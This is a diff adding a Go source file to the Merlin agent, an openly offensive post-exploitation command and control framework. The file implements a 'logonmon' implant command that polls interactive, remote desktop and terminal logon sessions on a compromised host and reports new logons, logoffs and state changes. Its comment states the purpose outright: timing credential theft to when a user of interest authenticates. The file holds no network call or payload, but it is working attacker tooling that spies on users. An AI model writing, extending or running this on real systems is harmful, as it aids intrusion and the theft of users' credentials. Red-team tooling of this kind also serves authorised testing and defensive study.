@@ -0,0 +1,175 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"strconv"
+	"strings"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// defaultLogonmonInterval is how often the logon sessions are polled when an interval is not provided
+const defaultLogonmonInterval = 10
+
+// logonSession is an interactive, remote desktop, or terminal session and the user logged on to it
+type logonSession struct {
+	ID     string
+	User   string
+	Type   string
+	Source string
+	State  string
+}
+
+// key identifies the same logon across polls
+func (s logonSession) key() string {
+	return s.ID + "\x00" + s.User
+}
+
+// String describes the session for an event or table row
+func (s logonSession) String() string {
+	out := fmt.Sprintf("user %s type %s session %s", s.User, s.Type, s.ID)
+	if s.Source != "" {
+		out += fmt.Sprintf(" from %s", s.Source)
+	}
+	if s.State != "" {
+		out += fmt.Sprintf(" state %s", s.State)
+	}
+	return out
+}
+
+// Logonmon reports new interactive, remote desktop, and remote terminal logons on check-in so credential theft can
+// be timed to when a user of interest authenticates
+// logonmon start [interval seconds]
+// logonmon sessions
+// logonmon list
+// logonmon stop <id>
+func Logonmon(cmd jobs.Command, report Reporter) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Logonmon() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the logonmon command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		interval := defaultLogonmonInterval
+		if len(cmd.Args) > 1 {
+			var err error
+			if interval, err = strconv.Atoi(cmd.Args[1]); err != nil || interval < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid interval in seconds", cmd.Args[1])
+				return
+			}
+		}
+		sessions, err := logonSessions()
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error listing logon sessions: %s", err)
+			return
+		}
+		m, err := startMonitor("logonmon", fmt.Sprintf("every %ds", interval), report, func(m *monitor, stop <-chan struct{}) error {
+			return runLogonmon(m, sessions, time.Duration(interval)*time.Second, stop)
+		})
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Started logonmon %s every %d seconds with %d existing sessions", m.ID, interval, len(sessions))
+	case "sessions":
+		sessions, err := logonSessions()
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error listing logon sessions: %s", err)
+			return
+		}
+		if len(sessions) == 0 {
+			results.Stdout = "there are no logon sessions"
+			return
+		}
+		var lines []string
+		for _, session := range sessions {
+			lines = append(lines, session.String())
+		}
+		results.Stdout = strings.Join(lines, "\n")
+	case "list":
+		results.Stdout = listMonitors("logonmon")
+	case "stop":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "not enough arguments provided to the logonmon stop command"
+			return
+		}
+		if err := stopMonitor("logonmon", cmd.Args[1]); err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = fmt.Sprintf("Stopped logonmon %s", cmd.Args[1])
+	default:
+		results.Stderr = fmt.Sprintf("unknown logonmon command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// runLogonmon compares the sessions against the last poll and records logons, logoffs, and state changes
+func runLogonmon(m *monitor, sessions []logonSession, interval time.Duration, stop <-chan struct{}) error {
+	previous := make(map[string]logonSession)
+	for _, session := range sessions {
+		previous[session.key()] = session
+	}
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+	failures := 0
+	for {
+		select {
+		case <-stop:
+			return nil
+		case <-ticker.C:
+		}
+		sessions, err := logonSessions()
+		if err != nil {
+			if failures++; failures > 10 {
+				return err
+			}
+			continue
+		}
+		failures = 0
+		current := make(map[string]logonSession)
+		for _, session := range sessions {
+			current[session.key()] = session
+			old, ok := previous[session.key()]
+			switch {
+			case !ok:
+				m.event("logon %s", session)
+			case old.State != session.State:
+				m.event("%s %s", session.State, session)
+			}
+		}
+		for key, session := range previous {
+			if _, ok := current[key]; !ok {
+				m.event("logoff %s", session)
+			}
+		}
+		previous = current
+	}
+}